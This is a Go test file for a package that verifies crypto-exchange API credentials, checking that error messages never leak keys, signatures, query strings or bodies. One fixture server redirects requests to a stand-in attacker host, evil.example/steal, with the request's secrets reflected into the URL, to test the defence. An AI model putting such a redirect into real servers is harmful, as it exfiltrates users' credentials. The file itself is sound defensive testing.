package verify

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/time/rate"
)

// recorder remembers what each request carried: its query, the values of
// its headers and its body (everything a signature or key travels in).
type recorder struct {
	next http.RoundTripper
	mu   sync.Mutex
	seen []string
}

// publicHeaders carry nothing secret.
var publicHeaders = map[string]bool{"User-Agent": true, "Content-Type": true, "Accept": true, "Content-Length": true, "Accept-Encoding": true}

func (rc *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	rc.mu.Lock()
	if q := req.URL.RawQuery; q != "" {
		rc.seen = append(rc.seen, q)
		for _, vs := range req.URL.Query() {
			rc.seen = append(rc.seen, vs...)
		}
	}
	for k, vs := range req.Header {
		if !publicHeaders[k] {
			rc.seen = append(rc.seen, vs...)
		}
	}
	if req.Body != nil && req.GetBody != nil {
		if b, err := req.GetBody(); err == nil {
			data, _ := io.ReadAll(b)
			rc.seen = append(rc.seen, string(data))
		}
	}
	rc.mu.Unlock()
	return rc.next.RoundTrip(req)
}

// secrets returns what the recorder saw that is long enough not to occur
// in a reason by chance.
func (rc *recorder) secrets() []string {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	var out []string
	for _, s := range rc.seen {
		if len(s) >= 8 {
			out = append(out, s)
		}
	}
	return out
}

// failingServers are base URLs where every request fails below HTTP: a
// closed port (connection refused), a TLS server whose certificate the
// client does not trust, and servers that redirect to a URL holding the
// request's query, signature headers and body, on another host or their
// own.
func failingServers(t *testing.T) map[string]string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed := "http://" + ln.Addr().String()
	ln.Close()
	tlsSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`{}`))
	}))
	tlsSrv.Config.ErrorLog = log.New(io.Discard, "", 0) // the handshake failures are the point
	tlsSrv.StartTLS()
	t.Cleanup(tlsSrv.Close)
	reflect := func(r *http.Request) string {
		q := "q=" + r.URL.RawQuery
		for k, vs := range r.Header {
			if !publicHeaders[k] {
				for _, v := range vs {
					q += "&" + k + "=" + v
				}
			}
		}
		if b, _ := io.ReadAll(r.Body); len(b) > 0 {
			q += "&body=" + string(b)
		}
		return strings.NewReplacer("\r", "", "\n", "").Replace(q)
	}
	off := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "https://evil.example/steal?"+reflect(r))
		w.WriteHeader(http.StatusFound)
	}))
	t.Cleanup(off.Close)
	same := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", r.URL.Path+"?"+reflect(r))
		w.WriteHeader(http.StatusTemporaryRedirect)
	}))
	t.Cleanup(same.Close)
	return map[string]string{
		"connection refused":       closed,
		"untrusted certificate":    tlsSrv.URL,
		"redirect off host":        off.URL,
		"redirect to its own host": same.URL,
	}
}

// leaks returns the first of secrets that text holds, or "?" when it
// holds a query mark, or "".
func leaks(text string, secrets []string) string {
	for _, s := range secrets {
		if s != "" && strings.Contains(text, s) {
			return s
		}
	}
	if strings.Contains(text, "?") {
		return "?"
	}
	return ""
}

// TestTransportFailuresNeverQuoteTheRequest walks every verifier against
// servers that fail below HTTP and checks that no reason quotes the
// request: no query string (HTX sends the key there, Deribit its client
// id and signature), no header value, no body, no credential part, not
// even a '?'. Go's *url.Error formats as `Get "https://host/path?query":
// cause`, and a redirect error carries the Location URL.
func TestTransportFailuresNeverQuoteTheRequest(t *testing.T) {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalECPrivateKey(k)
	privPEM := string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: der}))
	servers := failingServers(t)
	all := All()
	if len(all) < 24 {
		t.Fatalf("%d verifiers, want at least 24", len(all))
	}
	for _, v := range all {
		name := v.Spec().Name
		c, ok := fzCreds[name]
		if !ok {
			t.Fatalf("%s: no test credential in fzCreds", name)
		}
		c.Exchange = name
		if c.Secret == "" {
			c.Secret = "R8fK2mQz7LpX4wN9cV3bT6yH1jG5dS0aE8uI2oP7kM4nB9vC6xZ3qW5eR1tY8uIo"
		}
		if c.Passphrase == "" {
			c.Passphrase = "Tr4d1ngB0t-pass"
		}
		c.PrivateKey = privPEM
		for mode, base := range servers {
			t.Run(name+"/"+mode, func(t *testing.T) {
				e, err := NewEngine([]Verifier{v}, Options{Endpoints: map[string]string{name: base}, Timeout: 3 * time.Second, Retries: 1, Backoff: time.Millisecond})
				if err != nil {
					t.Fatal(err)
				}
				call := e.callers[name]
				call.limiter = rate.NewLimiter(rate.Inf, 1)
				rec := &recorder{next: call.client.Transport}
				call.client = &http.Client{Transport: rec, Timeout: call.client.Timeout, CheckRedirect: call.client.CheckRedirect}
				r := e.Verify(context.Background(), c)
				if r.Status != Indeterminate {
					t.Errorf("status %s (%s), want indeterminate", r.Status, r.Reason)
				}
				secrets := append(rec.secrets(), c.Key, c.Secret, c.Passphrase)
				if len(rec.secrets()) == 0 {
					t.Fatal("no request was recorded: the test would not cover anything")
				}
				if s := leaks(r.Reason, secrets); s != "" {
					t.Errorf("the reason quotes the request (%.12q…): %q", s, r.Reason)
				}
			})
		}
	}
}

// TestCallerErrorsNeverQuoteTheRequest: the error Caller.Do returns for a
// request that failed below HTTP names the method, host and path, and the
// cause, never the query, a header value or the body.
func TestCallerErrorsNeverQuoteTheRequest(t *testing.T) {
	v := All()[0]
	sp := v.Spec()
	ep := sp.Endpoints[len(sp.Endpoints)-1]
	const (
		query = "apiKey=QUERYKEY1234567&signature=QUERYSIG1234567"
		hsig  = "HEADERSIG1234567"
		body  = `{"secret":"BODYSECRET1234567"}`
	)
	for mode, base := range failingServers(t) {
		t.Run(mode, func(t *testing.T) {
			e, err := NewEngine([]Verifier{v}, Options{Endpoints: map[string]string{sp.Name: base}, Timeout: 3 * time.Second, Retries: 1, Backoff: time.Millisecond})
			if err != nil {
				t.Fatal(err)
			}
			call := e.callers[sp.Name]
			call.limiter = rate.NewLimiter(rate.Inf, 1)
			_, err = call.Do(context.Background(), Request{
				Method: ep.Method, Path: ep.Path, RawQuery: query,
				Header: http.Header{"X-Signature": {hsig}}, Body: []byte(body),
			}, nil)
			if err == nil {
				t.Fatal("no error")
			}
			if s := leaks(err.Error(), []string{query, "QUERYKEY1234567", "QUERYSIG1234567", hsig, body, "BODYSECRET1234567"}); s != "" {
				t.Errorf("the error quotes the request (%q): %q", s, err)
			}
			t.Log(err)
			u, _ := url.Parse(base)
			if want := ep.Method + " " + u.Host + ep.Path; !strings.Contains(err.Error(), want) {
				t.Errorf("the error does not name the request as %q: %q", want, err)
			}
		})
	}
}

// TestRequestErrorText: the cause's text is kept unless it quotes the
// request; the error still unwraps to the cause.
func TestRequestErrorText(t *testing.T) {
	r := Request{Method: "GET", Path: "/v1/x", RawQuery: "k=QUERYVALUE", Header: http.Header{"X-Sig": {"SIGVALUE1"}, "X-Win": {"5000"}}, Body: []byte("BODYVALUE")}
	u, _ := url.Parse("https://api.example.com/base/v1/x?k=QUERYVALUE")
	redirect := fmt.Errorf("%w: to %s", errRedirect, "evil.example")
	tests := []struct {
		name  string
		err   error
		want  string
		cause error
	}{
		{"url.Error unwrapped", &url.Error{Op: "Get", URL: u.String(), Err: io.ErrUnexpectedEOF}, "GET api.example.com/base/v1/x: unexpected EOF", io.ErrUnexpectedEOF},
		{"plain error kept", errors.New("connection reset by peer"), "GET api.example.com/base/v1/x: connection reset by peer", nil},
		{"short header values are not looked for", errors.New("port 5000 closed"), "GET api.example.com/base/v1/x: port 5000 closed", nil},
		{"query withheld", errors.New("bad k=QUERYVALUE"), "GET api.example.com/base/v1/x: the error's text quoted the request; withheld", nil},
		{"question mark withheld", errors.New(`parse "https://x/y?z": bad`), "GET api.example.com/base/v1/x: the error's text quoted the request; withheld", nil},
		{"header value withheld", errors.New("echo SIGVALUE1"), "GET api.example.com/base/v1/x: the error's text quoted the request; withheld", nil},
		{"body withheld", errors.New("echo BODYVALUE"), "GET api.example.com/base/v1/x: the error's text quoted the request; withheld", nil},
		{"redirect kept", &url.Error{Op: "Get", URL: "https://evil.example/?k=QUERYVALUE", Err: redirect}, "GET api.example.com/base/v1/x: verify: redirect refused: to evil.example", errRedirect},
		{"redirect quoting the request", &url.Error{Op: "Get", URL: "x", Err: fmt.Errorf("%w: Location %s", errRedirect, "https://evil.example/?k=QUERYVALUE")}, "GET api.example.com/base/v1/x: " + errRedirect.Error(), errRedirect},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := newRequestError(r, u, tc.err)
			if err.Error() != tc.want {
				t.Errorf("got  %q\nwant %q", err.Error(), tc.want)
			}
			if tc.cause != nil && !errors.Is(err, tc.cause) {
				t.Errorf("%v does not unwrap to %v", err, tc.cause)
			}
			var ue *url.Error
			if errors.As(err, &ue) {
				t.Errorf("the *url.Error (and its URL) is still reachable: %v", ue)
			}
		})
	}
}

// TestReasonsNeverQuoteTheCredential: exchanges echo what they were sent
// in error messages ("Failed to find api-key …"), and verifiers quote
// those messages in reasons. Whatever a reply says, no reason holds the
// key, the secret or the passphrase in full: each verifier is served
// replies that echo all three in every message field it might quote.
func TestReasonsNeverQuoteTheCredential(t *testing.T) {
	for _, v := range All() {
		name := v.Spec().Name
		c := fzCreds[name]
		c.Exchange = name
		if c.Secret == "" {
			c.Secret = "R8fK2mQz7LpX4wN9cV3bT6yH1jG5dS0aE8uI2oP7kM4nB9vC6xZ3qW5eR1tY8uIo"
		}
		if c.Passphrase == "" {
			c.Passphrase = "Tr4d1ngB0t-pass"
		}
		msg := "invalid api key " + c.Key + " secret " + c.Secret + " passphrase " + c.Passphrase + ": ip not allowed"
		q := strconvQuote(msg)
		bodies := []string{
			`{"code":"50119","retCode":10003,"status":"error","err-code":"x","err-msg":` + q + `,"msg":` + q + `,"message":` + q + `,"retMsg":` + q + `,"reason":` + q + `,"error":{"message":` + q + `,"code":13004,"name":` + q + `},"errorCode":305,"label":"INVALID_KEY","success":false,"result":"error"}`,
			`{"error":[` + q + `]}`,
			`["error",10100,` + q + `]`,
			msg,
		}
		for _, body := range bodies {
			for _, status := range []int{200, 400, 401, 403} {
				e, _ := newFake(t, v, jsonHandler(status, body))
				r := e.Verify(context.Background(), c)
				for _, s := range []string{c.Key, c.Secret, c.Passphrase} {
					if strings.Contains(r.Reason, s) {
						t.Errorf("%s, HTTP %d: the reason holds a credential part (%.4s…): %q", name, status, s, r.Reason)
						break
					}
				}
			}
		}
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }
